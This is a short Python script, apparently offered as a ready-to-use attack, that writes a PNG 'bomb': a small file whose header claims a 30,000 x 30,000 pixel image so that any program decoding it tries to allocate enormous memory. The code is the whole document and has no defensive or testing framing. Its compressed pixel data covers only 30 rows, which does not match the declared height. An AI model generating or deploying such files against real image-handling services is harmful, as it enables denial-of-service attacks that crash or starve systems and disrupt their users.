"""A picture that uses up the memory of whoever decodes it."""

import struct
import zlib
from pathlib import Path


def write_bomb(path: Path) -> None:
    """A small PNG of 30,000 x 30,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        size, check = struct.pack('>I', len(data)), zlib.crc32(body)
        return size + body + struct.pack('>I', check)

    header = struct.pack('>IIBBBBB', 30_000, 30_000, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(30_001 * 30))
    path.write_bytes(
        b'\x89PNG\r\n\x1a\n'
        + chunk(b'IHDR', header)
        + chunk(b'IDAT', rows)
        + chunk(b'IEND', b'')
    )
